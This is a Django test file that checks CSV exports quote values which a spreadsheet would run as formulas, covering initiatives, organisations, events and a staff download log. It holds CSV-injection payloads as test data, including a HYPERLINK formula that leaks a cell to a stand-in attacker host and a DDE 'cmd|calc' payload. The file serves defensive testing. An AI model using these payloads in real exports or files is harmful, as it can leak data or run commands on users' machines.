"""CSV injection: text a spreadsheet would run as a formula comes out of every CSV with a quote.

Each test stores the attack in a name or title people can type, downloads the CSV as a visitor (or
staff) would, and reads the cell: it starts with `'`, so Excel or LibreOffice shows it as text,
and dropping that one quote gives the stored value back (the data dictionary's rule).
"""

import csv
import io
import json

import pytest
from django.db import connection
from django.test import RequestFactory
from django.urls import reverse

from agenda.models import Event
from initiatives.models import Initiative, Organisation, Pole
from observatoire.csvsafe import unescape
from publications.exports import copy, formats
from publications.exports.kinds import SPECS
from publications.models import Download
from terrain.models import Finding
from territoires.models import Territory
from tests.publications.test_results import agenda, fieldwork, published, users  # noqa: F401

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'
BASE = "https://observatoire.example"
ATTACKS = [LINK, "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def download(client, url) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200
    content = response.streaming_content if response.streaming else [response.content]
    text = b"".join(content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export_url(name, fmt="csv", query=""):
    return reverse("publications:export", kwargs={"name": name, "fmt": fmt}) + query


def assert_neutralised(cell: str, stored: str):
    assert cell == "'" + stored, f"{cell!r} would run in a spreadsheet"
    assert unescape(cell) == stored


@pytest.fixture
def hostile(directory):
    """The directory's rows renamed with formulas: an initiative, an organisation, the PTCE, a
    commune; one initiative sits at a negative longitude (a number: it must stay one)."""
    first = directory["initiatives"][0]
    Initiative.objects.filter(pk=first.pk).update(
        name=LINK, summary=ATTACKS[1], website=ATTACKS[3], longitude=-0.5
    )
    Organisation.objects.filter(slug="adere-laura").update(name=ATTACKS[2], acronym=ATTACKS[4])
    Pole.objects.filter(pk=directory["pole"].pk).update(name=ATTACKS[5], summary="'t Hoekske")
    Territory.objects.filter(pk=directory["bruay"].pk).update(name=LINK)
    return directory


def test_initiatives_csv_quotes_formulas_and_keeps_numbers(client, hostile):
    rows = download(client, export_url("initiatives"))
    row = next(row for row in rows if row["slug"] == "maison-des-echanges")
    assert_neutralised(row["name"], LINK)
    assert_neutralised(row["summary"], ATTACKS[1])
    assert_neutralised(row["website"], ATTACKS[3])
    assert_neutralised(row["territory_name"], LINK)
    assert row["longitude"] == "-0.5"  # a number column: written as the number it is
    plain = next(row for row in rows if row["slug"] == "adere-achats")
    assert plain["name"] == "ADERE achats"  # ordinary text is untouched


def test_organisations_ptces_and_territories_csv_quote_formulas(client, hostile):
    organisation = download(client, export_url("organisations"))[0]
    assert_neutralised(organisation["name"], ATTACKS[2])
    assert_neutralised(organisation["acronym"], ATTACKS[4])
    pole = download(client, export_url("ptces"))[0]
    assert_neutralised(pole["name"], ATTACKS[5])
    # A quote at the start is doubled, so that dropping one always gives the value back.
    assert_neutralised(pole["summary"], "'t Hoekske")
    territories = {row["code"]: row for row in download(client, export_url("territories"))}
    assert_neutralised(territories["62178"]["name"], LINK)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("name", sorted(copy.KINDS))
def test_postgresql_copy_and_the_python_writers_quote_the_same_cells(hostile, name):
    spec = SPECS[name]
    queryset, _filterset = spec.rows(RequestFactory().get("/").GET)
    url = formats.UrlMaker(spec, BASE)

    def written(chunks):
        return b"".join(formats.encoded(chunks))

    sql = written(copy.csv_chunks(spec, queryset, url.template))
    python = written(formats.csv_tuple_chunks(spec, queryset, BASE))
    dicts = written(formats.csv_chunks(spec, queryset.iterator(), url))
    assert python == dicts == sql
    assert any(f"'{attack}".encode() in sql for attack in [*ATTACKS, "'t Hoekske"])


def test_json_exports_keep_the_value_as_stored(client, hostile):
    response = client.get(export_url("initiatives", "json"))
    items = json.loads(b"".join(response.streaming_content))
    assert LINK in [item["name"] for item in items]


def test_findings_and_events_csv_quote_formulas(client, agenda):  # noqa: F811
    Finding.objects.filter(pk=agenda["finding"].pk).update(title=LINK)
    Event.objects.filter(pk=agenda["meeting"].pk).update(title=ATTACKS[3], place=ATTACKS[1])
    finding = download(client, export_url("findings"))[0]
    assert_neutralised(finding["title"], LINK)
    event = next(row for row in download(client, export_url("events")) if "SUM" in row["title"])
    assert_neutralised(event["title"], ATTACKS[3])
    assert_neutralised(event["place"], ATTACKS[1])


def test_staff_download_log_quotes_the_query_strings_visitors_sent(client, staff, directory):
    # The attack: a visitor's query string is logged as it came, then staff open the log.
    client.get(export_url("initiatives", query="?=cmd|calc!A0"))
    assert Download.objects.get().filters.startswith("=cmd")
    client.force_login(staff)
    row = download(client, reverse("publications:downloads-csv") + "?bom=1")[0]
    assert_neutralised(row["filters"], "=cmd|calc!A0")
    assert row["export"] == "initiatives.csv"


def test_the_data_dictionary_says_how_quoted_cells_are_written(client, db):
    html = client.get(reverse("publications:dictionary")).content.decode()
    sentence = html.split('id="csv-formulas">')[1].split("</p>")[0]
    assert "=, +, -, @" in sentence and "<code>'</code>" in sentence
